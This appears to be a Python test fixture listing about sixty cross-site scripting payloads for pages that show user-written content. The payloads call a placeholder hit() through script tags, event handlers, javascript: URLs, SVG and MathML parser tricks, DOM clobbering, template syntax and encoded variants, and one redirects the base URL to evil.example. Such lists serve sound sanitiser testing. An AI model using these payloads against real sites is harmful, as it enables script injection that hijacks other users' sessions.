"""Markup that an attacker would like to see run, for pages that show what others wrote."""

from __future__ import annotations

# `hit()` is what an attacker wants to have run. Breaks out of text, attributes, comments, scripts, styles,
# JSON, templates, addresses, XML and Markdown; by events, frames, names of elements, mending of parsers.
PAYLOADS = (
    "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script >hit()</script >",
    "<script/x>hit()</script>", "<<script>hit();//<</script>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "\"><script>hit()</script>", "'><script>hit()</script>", "</title><script>hit()</script>",
    "</textarea><script>hit()</script>", "</style><script>hit()</script>",
    "</script><script>hit()</script>", "--><script>hit()</script><!--", "]]><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>", "</noscript><script>hit()</script>", "<img src=x onerror=hit()>",
    "<img src=x onerror=\"hit()\"//", "\"onerror=\"hit()\"src=\"x", "<img/src=x/onerror=hit()>",
    "<image href=x onerror=hit()>", "<svg onload=hit()>", "<svg/onload=hit()//",
    "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a href=javascript:hit()><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=hit()>#x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>", "<math href=javascript:hit()>x</math>",
    "<body onload=hit()>", "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc=\"<script>parent.hit()</script>\"></iframe>", "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>", "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()>",
    "<input autofocus onfocus=hit()>", "\" autofocus onfocus=hit() x=\"", "' onmouseover='hit()",
    "\" onmouseover=\"hit()", "` onmouseover=hit() `", "<a href=javascript:hit()>点</a>",
    "<a href=\"jav&#x09;ascript:hit()\">点</a>", "javascript:hit()//",
    "data:text/html,<script>hit()</script>", "[点](javascript:hit())", "![x](x\"onerror=\"hit())",
    "<javascript:hit()>", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;",
    "{{ hit() }}{% print hit() %}", "${hit()}", "<style>@import 'javascript:hit()';</style>",
    "<link rel=stylesheet href=javascript:hit()>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;javascript:hit()\">",
    "<form action=javascript:hit()><button autofocus>x</button></form>",
    "<template shadowrootmode=open><script>hit()</script></template>",
    "<a id=root name=documentElement href=x:y></a><form id=dataset><input name=js></form>",
    "\u2028hit()\u2029", "＜script＞hit()＜/script＞",
)  # fmt: skip
